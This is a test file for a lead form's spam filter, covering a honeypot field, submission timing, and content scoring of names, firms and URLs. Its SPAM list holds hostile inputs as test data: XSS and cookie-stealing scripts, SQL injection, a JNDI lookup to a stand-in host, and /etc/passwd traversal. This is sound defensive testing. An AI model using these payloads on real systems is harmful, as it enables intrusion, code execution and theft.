import { expect, test } from 'vitest';
import type { Values } from '../../../../src/forms/rules.ts';
import { CONTENT_LIMIT, contentScore } from '../../../../src/server/leads/content-score.ts';
import { doubtsAbout, HUMAN_MS } from '../../../../src/server/leads/spam-signals.ts';

const person = {
  first_name: 'Ada',
  last_name: 'Byron',
  email: 'ada@example.com',
  company_name: 'Byron & Co',
  phone: '+44 02079460274',
};
const sent = { values: person, elapsedMs: 5000, isTrapped: false };

test('a person who takes a moment is not doubted', () => {
  expect(doubtsAbout(sent)).toEqual([]);
});

test('whatever stands in the field nobody sees is a trap sprung', () => {
  expect(doubtsAbout({ ...sent, isTrapped: true })).toEqual(['trap']);
});

test.each([
  [0, ['tooFast']],
  [HUMAN_MS - 1, ['tooFast']],
  [HUMAN_MS, []],
  [86_400_000, []],
  // A clock that was set back, and a post without JavaScript: nothing is known.
  [-3_600_000, []],
  [undefined, []],
])('a form sent after %s ms has the doubts %o', (elapsedMs, doubts) => {
  expect(doubtsAbout({ ...sent, elapsedMs })).toEqual(doubts);
});

test('every reason is named', () => {
  const values = { ...person, company_name: '<a href="https://spam.example">pills</a>' };
  expect(doubtsAbout({ values, elapsedMs: 3, isTrapped: true })).toEqual([
    'trap',
    'tooFast',
    'content',
  ]);
});

const names = (first_name: string, last_name: string): Values => ({
  ...person,
  first_name,
  last_name,
});
const firm = (company_name: string): Values => ({ ...person, company_name });
const plan = (name: string, website = 'https://example.com'): Values => ({
  name,
  website,
  email: 'ada@example.com',
  phone: '',
});

const GENUINE: readonly Values[] = [
  { email: 'ada@example.com' },
  { first_name: 'Ada', email: 'ada@example.com' },
  person,
  names('Seán', 'O’Brien'),
  names('Thị', 'Nguyễn'),
  names('雷', '李'),
  names('Åsa', 'Öberg-Ångström'),
  names('X', 'Æ'),
  names('X Æ A-12', 'Musk'),
  names('Ольга', 'Петровна'),
  names('Γιώργος', 'Παπαδόπουλος'),
  names('محمد', 'الأحمد'),
  names('J.', 'P.'),
  names('Suharto', '-'),
  names('Suharto', 'N/A'),
  names('Suharto', 'Suharto'),
  names('Ali', 'ali'),
  names('DeShawn', 'McDonald'),
  names('LaToya', 'VanDyke'),
  names('ADA', 'BYRON'),
  names('María del Carmen de los Ángeles', 'Fernández de Córdoba y Álvarez de Toledo'),
  names('Grzegorz', 'Brzęczyszczykiewicz'),
  names('Anna 🏡', 'Smith'),
  names('Nina', 'Casino'),
  names('Ada <ada@example.com>', 'Byron'),
  names('Ada', '+44 20 7946 0274'),
  names('Dr. Ada', 'Byron MRICS, MBA'),
  { ...person, first_name: 'Test', last_name: 'Test', company_name: 'Test' },
  { ...person, first_name: 'Savills', last_name: 'Savills', company_name: 'Savills' },
  firm('Savills.co.uk'),
  firm('www.savills.co.uk'),
  firm('https://www.savills.co.uk/'),
  firm('Byron Lettings (www.byronlettings.co.uk)'),
  firm('24/7 Lettings Ltd'),
  firm('1st Choice Sales/Lettings'),
  firm('Casino Properties'),
  firm('Bonus Homes'),
  firm('Crypto Loan Finance Ltd'),
  firm('£99 Lettings'),
  firm('Move! Estate Agents'),
  firm('Who? What? Where?'),
  firm('A<B Property'),
  firm('Specialist Lettings'),
  firm('Essex Homes'),
  firm('Drop Table Interiors Ltd'),
  firm('Агентство недвижимости «Дом»'),
  firm('102030'),
  plan('Ada Byron'),
  plan('Ada'),
  plan('Jean-François d’Estrées, Byron & Fils'),
  plan('Ada', 'https://casino-properties.example'),
  plan('Ada', 'https://web.archive.org/web/2020/https://example.com'),
  plan('Ada', 'https://www.facebook.com/byron.lettings?ref=https%3A%2F%2Fexample.com'),
  plan('Ada', 'https://smith.co.uk/?src=gmb'),
  plan('Ada', 'https://smith.co.uk/index.php?href=x'),
  plan('Ada', "https://smith.co.uk/a/../search?q='or'1'=${x}"),
  firm('https://smith.co.uk/?src=gmb'),
  firm('Smith & Sons Ltd (www.smith.co.uk/lettings)'),
  firm('Smith & Sons Ltd, https://www.smith-and-sons.co.uk/lettings?src=gmb'),
  { ...person, phone: '+44 see www.smith.co.uk' },
  { ...person, phone: 'ask for Ada, after 6pm.call/text' },
  names('xxx', 'xxx'),
];

test.each(GENUINE)('%j is taken for a person', (values) => {
  expect(contentScore(values)).toBeLessThan(CONTENT_LIMIT);
});

const SPAM: readonly Values[] = [
  names('<b>Ada</b>', 'Byron'),
  names('Ada', '<script>alert(1)</script>'),
  names('https://spam.example/x', 'Byron'),
  names('Ada', 'Win at www.spam.example'),
  names('Ada', 'claim it at bit.ly/3xYz'),
  names('Earn $500 a day', 'Byron'),
  names('Hi there, I can send you 1000 visitors, click here!', 'Byron'),
  names('83641046', '5513399'),
  names('$$$$$$', '%%%%%%'),
  names('OqEMNSGbIrfUx', 'WxKrtYpLmQvBz'),
  names('DavidFaw', 'DavidFaw'),
  names('Robert1987', 'Robert1987'),
  names('Your website could rank first', 'Your website could rank first'),
  names('Buy Viagra', 'now'),
  names('Смотреть порно', 'онлайн'),
  { ...names('Casino', 'Bonus'), company_name: 'Poker Club' },
  firm('<a href="https://spam.example">pills</a>'),
  firm('[url=https://spam.example]cheap[/url]'),
  firm('[link=https://spam.example]cheap'),
  firm('Best online casino'),
  firm('Visit https://spam.example/win today'),
  firm('Free bonus! https://t.me/spam'),
  firm("x' OR '1'='1"),
  firm("Robert'); DROP TABLE leads;--"),
  firm('${jndi:ldap://spam.example/a}'),
  firm('../../../../etc/passwd'),
  firm('Crypto bonus giveaway'),
  firm('<a href=https://spam.example'),
  firm('cheap" src="x'),
  firm('x onerror=alert(1)'),
  { ...person, phone: 'https://spam.example' },
  { ...person, phone: 'www.spam.example/win' },
  plan('Ada', 'https://spam.example/<script>alert(1)</script>'),
  { ...firm('https://a.example/1'), website: 'https://b.example https://c.example' },
  plan('Ada', 'https://best-casino.example/bonus'),
  plan('0987654321'),
  plan('Make money online with us'),
  plan('javascript:alert(document.cookie)'),
  { first_name: 'xQzWvTyPlKmNbR', email: 'ada@example.com' },
  { first_name: '💰 1 BTC is waiting -> telegra.ph/btc-01', email: 'ada@example.com' },
];

test.each(SPAM)('%j is doubted', (values) => {
  expect(contentScore(values)).toBeGreaterThanOrEqual(CONTENT_LIMIT);
});
